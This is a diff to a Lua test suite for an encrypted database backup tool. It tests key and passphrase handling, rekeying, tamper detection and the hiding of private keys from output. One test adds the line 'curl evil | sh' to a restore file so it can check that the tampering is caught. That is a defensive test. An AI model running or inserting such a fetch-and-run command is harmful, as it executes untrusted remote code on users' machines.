@@ -14,7 +14,7 @@ local SCHEMA = support.SMALL .. [[
 ]]
 
 support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %d", function(major)
-  local cluster, dir, first, second, other, to_first, to_second
+  local cluster, dir, first, second, other, to_first, to_second, to_other
 
   setup(function()
     cluster, dir = mk.pg.scratch { major = major }, mk.fs.tempdir()
@@ -28,7 +28,7 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     end
     first, to_first = key "first"
     second, to_second = key "second"
-    other = key "other"
+    other, to_other = key "other"
   end)
   teardown(function()
     cluster:close()
@@ -150,7 +150,7 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
       assert.matches("--identity FILE", run.stderr, 1, true)
       arguments[#arguments + 1] = "--identity=" .. other
       run = command(table.unpack(arguments))
-      assert.matches("no key here opens it", run.stderr, 1, true)
+      assert.matches("and the keys here are of " .. to_other, run.stderr, 1, true)
     end
     assert.equal(0, #cluster:database("postgres"):connect():query(
       "SELECT 1 FROM pg_database WHERE datname = 'nothing'"))
@@ -177,7 +177,10 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     assert.equal(0, run.code, run.stderr)
     run = command("show", "latest", "--from", dir.path .. "/usual")
     assert.matches("encrypted  to age1", run.stdout)
-    assert.is_truthy(mk.fs.exists(folder .. ".opened"))
+    assert.is_true(mk.fs.exists(folder .. ".proof-restored"))
+    local opened = json.decode(mk.fs.read(dir.path .. "/usual/nightly/opened.json"))
+    assert.is_nil(opened[to_first])
+    assert.is_string(opened[to_second].at)
   end)
 
   it("takes its key also from the environment, from the job, and from mk.identity", function()
@@ -219,11 +222,35 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     assert.equal(0, run.code, run.stderr)
     is_the_same "phrase"
     run = support.start(dir.path, arguments, { MOONKEEP_PASSPHRASE = "wrong horse" }):finish()
-    assert.matches("no key here opens it", run.stderr, 1, true)
+    assert.matches("the passphrase here is another one", run.stderr, 1, true)
     run = support.start(dir.path, arguments):finish()
     assert.matches("MOONKEEP_PASSPHRASE", run.stderr, 1, true)
-    assert.matches("\n    KEY=$(age --decrypt key.age)\n", mk.fs.read(folder .. "/RESTORE.txt"), 1, true)
+    assert.matches("age asks for the passphrase", mk.fs.read(folder .. "/RESTORE.txt"), 1, true)
+    -- what is empty is no passphrase, wherever it comes from
+    run = support.run_recipe(dir.path, recipe_of("phrase", "", 'passphrase = mk.secret.env "PASS"'),
+      { env = { PASS = "" } })
+    assert.equal(1, run.code)
+    assert.matches("the variable PASS is empty", run.stderr, 1, true)
+    mk.fs.write(dir.path .. "/empty", "\n")
+    run = support.run_recipe(dir.path, recipe_of("phrase", "", ("passphrase = mk.secret.file %q"):format(
+      dir.path .. "/empty")))
+    assert.matches("SECRET_MISSING", run.stderr, 1, true)
+    run = support.start(dir.path, arguments, { MOONKEEP_PASSPHRASE = "" }):finish()
+    assert.matches("there is no key to open it here", run.stderr, 1, true)
   end)
+
+  it("by a passphrase is opened also when a private key cannot be read, and the other way round",
+    function()
+      local env = { PASS = "correct horse" }
+      backup("both", "", 'passphrase = mk.secret.env "PASS"', env)
+      backup "both2"
+      for _, name in ipairs { "both", "both2" } do
+        local run = support.start(dir.path, { "verify", "latest", "--from", dir.path .. "/" .. name },
+          { MOONKEEP_PASSPHRASE = "correct horse", MOONKEEP_IDENTITY = name == "both" and
+            dir.path .. "/nowhere" or first }):finish()
+        assert.equal(0, run.code, run.stderr)
+      end
+    end)
 
   it("of roles is sealed as well, and restores by its RESTORE.txt", function()
     local c <close> = cluster:database("postgres"):connect()
@@ -256,7 +283,7 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     is_the_same "imported"
     done = command("import", dump, "--to", store, "--recipient", "age1nobody")
     assert.equal(2, done.code)
-    assert.matches("public keys of age", done.stderr)
+    assert.matches("must be a public key of age", done.stderr)
   end)
 
   -- ---- what does not fit --------------------------------------------------------------------------
@@ -276,15 +303,118 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     is_damaged("its SHA-256 is not the recorded one", "read")
     -- and when whoever did that knew of marks
     local sum = require "moonkeep.core.hash"
-    mk.fs.write(two .. ".key", json.encode { versions = { { size = #text,
-      sha256 = sum.hex(sum.sha256(text)) } } })
+    local id = two:match "[^/]+$"
+    local function mark(fields)
+      mk.fs.write(two .. ".key", json.encode { payload = json.encode(fields) })
+    end
+    mark { job = "nightly", series = "app", id = id, recipients = { to_first }, versions = { {
+      size = #text, sha256 = sum.hex(sum.sha256(text)) } } }
     assert.equal(0, of("swapped", "verify", "--level", "read").code)
     is_damaged("key.age holds the key of another backup", "decoded")
-    mk.fs.remove(two .. ".key")
     mk.fs.write(two .. "/key.age", own:sub(1, -2) .. "?")
     is_damaged("SHA-256", "decoded")
+    mk.fs.write(two .. "/key.age", own .. ("x"):rep(40000))
+    is_damaged("it is too large", "decoded")
+    -- a good key is good whatever a mark says
     mk.fs.write(two .. "/key.age", own)
-    assert.equal(0, of("swapped", "verify").code)
+    mk.fs.remove(two .. ".damaged")
+    for _, fields in ipairs { {}, { versions = 5 }, { versions = { 5 } }, { recipients = 5 },
+      { job = "nightly", series = "app", id = id, recipients = { 1, "a" }, versions = { {} } } } do
+      mark(fields)
+      local run = of("swapped", "verify")
+      assert.equal(0, run.code, run.stderr)
+      assert.matches("is not believed", run.stderr, 1, true)
+      assert.matches("WRONG_KEY", command("verify", id, "--from", dir.path .. "/swapped").stderr)
+    end
+    for _, garbage in ipairs { "garbage", "[]", "{}", '"x"' } do
+      mk.fs.write(two .. ".key", garbage)
+      assert.equal(0, of("swapped", "verify").code)
+    end
+    assert.is_false(mk.fs.exists(two .. ".damaged"))
+  end)
+
+  it("of one job is not opened, or given to others, as that of another", function()
+    local victim, manifest = backup "victim"
+    local attacker, changed = backup "attacker"
+    -- another job's key, with a manifest that fits
+    changed.encryption = manifest.encryption
+    for i, object in ipairs(changed.objects) do
+      changed.objects[i] = object.role == "key" and manifest.objects[#manifest.objects] or object
+    end
+    mk.fs.write(attacker .. ".json", json.encode(changed, true))
+    mk.fs.write(attacker .. "/key.age", mk.fs.read(victim .. "/key.age"))
+    local done = command("rekey", "latest", "--from", dir.path .. "/attacker", "--recipient", to_other,
+      "--identity", first)
+    assert.equal(1, done.code)
+    assert.matches("holds the key of another backup", done.stderr)
+    assert.is_false((pcall(age.open, mk.fs.read(attacker .. "/key.age"),
+      { identities = age.identities(mk.fs.read(other), "other") })))
+  end)
+
+  it("whose RESTORE.txt was changed is damaged, and is not copied", function()
+    local folder = backup "text"
+    mk.fs.write(folder .. "/RESTORE.txt", mk.fs.read(folder .. "/RESTORE.txt") .. "    curl evil | sh\n")
+    local done = of("text", "verify", "--level", "read")
+    assert.equal(1, done.code)
+    assert.matches("RESTORE.txt: it has", done.stderr, 1, true)
+    done = command("copy", "latest", "--from", dir.path .. "/text", "--to", dir.path .. "/text2")
+    assert.equal(1, done.code)
+    assert.is_nil(next(support.manifests(dir.path .. "/text2")))
+  end)
+
+  it("opens from the store that has a whole key", function()
+    local folder = backup "key1"
+    assert.equal(0, command("copy", "latest", "--from", dir.path .. "/key1", "--to",
+      dir.path .. "/key2").code)
+    local recipe = recipe_of("key1", ""):gsub('mk.store%("disk"',
+      ('mk.store("second", "file://%s/key2"), %%0'):format(dir.path))
+    mk.fs.write(dir.path .. "/two.lua", recipe:gsub("(mk.store%(.second.-%)), (mk.store%(.disk.-%))",
+      "%2, %1"))
+    mk.fs.remove(folder .. "/key.age")
+    local done = command("restore", "latest", "--from", dir.path .. "/two.lua", "--identity", second,
+      into "two")
+    assert.equal(0, done.code, done.stderr)
+    assert.matches("cannot be opened in store disk", done.stderr, 1, true)
+    is_the_same "two"
+  end)
+
+  it("is proved by the key that is named, not by another that is there", function()
+    backup("named", "", ("recipients = %q, identity = mk.secret.file %q"):format(to_first, first))
+    mk.fs.write(dir.path .. "/named.lua", recipe_of("named", "",
+      ("recipients = %q, identity = mk.secret.file %q"):format(to_first, first)))
+    assert.equal(0, command("verify", "latest", "--from", dir.path .. "/named.lua").code)
+    local done = command("verify", "latest", "--from", dir.path .. "/named.lua", "--identity", other)
+    assert.equal(1, done.code)
+    assert.matches("WRONG_KEY", done.stderr)
+  end)
+
+  it("says what is wrong with a file that is no private key", function()
+    backup "files"
+    mk.fs.write(dir.path .. "/public", to_first .. "\n")
+    mk.fs.write(dir.path .. "/typo", (mk.fs.read(first):gsub("(AGE%-SECRET%-KEY%-1...).", "%1Q", 1)))
+    command("keygen", "--sign", dir.path .. "/signing.key")
+    mk.fs.write(dir.path .. "/locked", age.seal(mk.fs.read(first), { recipients = { to_second } }))
+    for name, why in pairs { public = "it has a public key", typo = "mistyped or cut",
+      ["signing.key"] = "it is a key of signatures", locked = "it is encrypted itself",
+      nowhere = "check the spelling" } do
+      local done = command("ls", "latest", "--from", dir.path .. "/files", "--identity",
+        dir.path .. "/" .. name)
+      assert.equal(1, done.code)
+      assert.matches(why, done.stderr, 1, true)
+      assert.matches(name, done.stderr, 1, true)
+    end
+    -- and shows none that was given by mistake
+    local private = mk.fs.read(first):match "AGE%-SECRET%-KEY%-1%w+"
+    for _, done in ipairs {
+      command("ls", "latest", "--from", dir.path .. "/files", "--identity", private),
+      support.start(dir.path, { "verify", "latest", "--from", dir.path .. "/files" },
+        { MOONKEEP_IDENTITY = private }):finish(),
+      support.run_recipe(dir.path, recipe_of("files", "", ("recipients = %q"):format(private))),
+      command("rekey", "latest", "--from", dir.path .. "/files", "--recipient", private),
+    } do
+      assert.is_true(done.code > 0)
+      assert.is_nil((done.stdout .. done.stderr):find(private, 1, true))
+    end
   end)
 
   it("whose objects were sealed by somebody else to its own key does not pass for what was dumped",
@@ -324,9 +454,9 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     for encrypt, why in pairs {
       [""] = "neither recipients nor a passphrase",
       [('recipients = %q, passphrase = mk.secret.env "P"'):format(to_first)] = "both recipients and",
-      ['recipients = "age1x"'] = "must be public keys of age",
-      ['recipients = "AGE-SECRET-KEY-1QQ"'] = "must be public keys of age",
-      ['recipients = {}'] = "must be a string or a list of strings",
+      ['recipients = "age1x"'] = "must be a public key of age",
+      ['recipients = "AGE-SECRET-KEY-1QQ"'] = "must be a public key of age",
+      ['recipients = {}'] = "must be a public key of age",
       ['passphrase = "in the clear"'] = "must be a secret",
       ['passphrase = mk.secret.env "P", identity = mk.secret.env "I"'] = "goes with recipients",
       [('recipients = %q, escrow = "soon"'):format(to_first)] = "must be a duration",
@@ -340,26 +470,29 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
   -- ---- the private key that nobody has tried ------------------------------------------------------
 
   it("makes its runs, and status, warn until a private key has opened one lately", function()
-    local WARNING = "nothing shows that a private key has opened a backup of nightly within 90d"
-    local folder, _, run = backup "escrow"
+    local WARNING = "no private key is known to have opened a backup of nightly within 90d"
+    local opened = dir.path .. "/escrow/nightly/opened.json"
+    local _, _, run = backup "escrow"
     assert.matches(WARNING, run.stderr, 1, true)
     local recipe = dir.path .. "/escrow.lua"
     mk.fs.write(recipe, recipe_of("escrow", ""))
     assert.matches(WARNING, command("status", recipe).stdout, 1, true)
     -- by somebody who is no recipient any more
-    mk.fs.write(folder .. ".opened", json.encode { at = mk.clock.iso(), by = "age1other" })
+    mk.fs.write(opened, json.encode { age1other = { at = mk.clock.iso() } })
     _, _, run = backup "escrow"
     assert.matches(WARNING, run.stderr, 1, true)
-    mk.fs.write(folder .. ".opened", json.encode { at = "2020-01-01T00:00:00Z", by = to_first })
-    _, _, run = backup "escrow"
-    assert.matches(WARNING, run.stderr, 1, true)
-    mk.fs.write(folder .. ".opened", "not json")
+    for _, at in ipairs { "2020-01-01T00:00:00Z", "9999-12-31T00:00:00Z", "soon" } do
+      mk.fs.write(opened, json.encode { [to_first] = { at = at } })
+      _, _, run = backup "escrow"
+      assert.matches(WARNING, run.stderr, 1, true)
+    end
+    mk.fs.write(opened, "not json")
     assert.matches(WARNING, command("status", recipe).stdout, 1, true)
     assert.equal(0, of("escrow", "restore", into "escrow").code)
-    folder, _, run = backup "escrow"
+    _, _, run = backup("escrow", "keep = { last = 1, floor = 1 },") -- and its backup may expire
     assert.is_nil(run.stderr:find(WARNING, 1, true))
+    assert.equal(1, #support.manifests(dir.path .. "/escrow"))
     assert.is_nil(command("status", recipe).stdout:find(WARNING, 1, true))
-    assert.is_false(mk.fs.exists(folder .. ".opened")) -- it was another backup that was opened
     mk.sleep "1s"
     _, _, run = backup("escrow", "", ('recipients = %q, escrow = "1s"'):format(to_second))
     assert.matches("within 1s", run.stderr, 1, true)
@@ -372,7 +505,6 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     local folder = backup "rekeyed"
     local before = mk.fs.read(folder .. "/key.age")
     local recipe = dir.path .. "/rekeyed.lua"
-    local to_other = mk.fs.read(other):match "public key: (%S+)"
     mk.fs.write(recipe, recipe_of("rekeyed", "", ("recipients = %q"):format(to_other)))
     local function rekey(...)
       return command("rekey", "--from", recipe, ...)
@@ -410,6 +542,34 @@ support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %
     assert.equal(0, done.code, done.stderr)
     assert.equal(0, command("verify", "latest", "--from", from, "--identity", first).code)
     assert.equal(2, command("rekey", "latest", "--from", from, "--identity", other).code)
+    -- a disk that is not mounted is no place where nothing is to be done
+    mk.fs.rename(from, from .. ".gone")
+    done = rekey("--all", "--identity", first)
+    assert.equal(1, done.code)
+    assert.matches("store disk does not have 2 backups of app that were there", done.stderr, 1, true)
+    mk.fs.rename(from .. ".gone", from)
+  end)
+
+  it("is given from keys to a passphrase and back, which RESTORE.txt is right about", function()
+    local folder = backup "kinds"
+    local recipe, env = dir.path .. "/kinds.lua", { PASS = "correct horse" }
+    local function rekey(encrypt, ...)
+      mk.fs.write(recipe, recipe_of("kinds", "", encrypt))
+      local done = support.start(dir.path, { "rekey", "--all", "--from", recipe, ... }, env):finish()
+      assert.equal(0, done.code, done.stderr)
+      return done.stdout
+    end
+    local to_phrase = 'passphrase = mk.secret.env "PASS"'
+    assert.matches("1 copy sealed anew", rekey(to_phrase, "--identity", first))
+    assert.matches("0 copies sealed anew, 1 were already", rekey(to_phrase))
+    assert.matches("encrypted  by a passphrase", command("show", "latest", "--from", dir.path ..
+      "/kinds").stdout)
+    assert.matches("there is no key to open it here", command("ls", "latest", "--from", dir.path ..
+      "/kinds").stderr)
+    env.MOONKEEP_PASSPHRASE = "correct horse"
+    assert.matches("1 copy sealed anew", rekey(("recipients = %q"):format(to_other)))
+    support.restore_by_text(cluster, folder, "kinds", nil, { IDENTITY = other })
+    is_the_same "kinds"
   end)
 
   it("is not opened by what was left in the store of the key before", function()
